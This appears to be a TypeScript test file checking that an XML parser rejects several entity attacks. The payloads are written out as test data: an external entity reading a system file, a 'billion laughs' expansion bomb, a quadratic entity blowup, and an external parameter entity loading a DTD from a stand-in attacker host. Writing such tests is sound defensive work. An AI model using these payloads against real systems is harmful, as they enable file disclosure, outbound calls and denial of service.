import { refusesXml } from '../support/xml-attack.ts';

const control = () => '<a>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;</a>';
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

refusesXml('an external entity', { code: 'malformed', bytes: () => '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>', control });
refusesXml('entities that expand a billion times', { code: 'malformed', bytes: () => `<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]><a>&l9;</a>`, control });
refusesXml('one long entity used often', { code: 'malformed', bytes: () => `<!DOCTYPE a [<!ENTITY e "${'x'.repeat(100_000)}">]><a>${'&e;'.repeat(10_000)}</a>`, control });
refusesXml('an external parameter entity', { code: 'malformed', bytes: () => '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><a/>', control });
refusesXml('an entity that nobody declared', { code: 'malformed', bytes: () => '<a>&nbsp;</a>', control });
refusesXml('an undeclared entity in an attribute', { code: 'malformed', bytes: () => '<a b="&e;"/>', control });
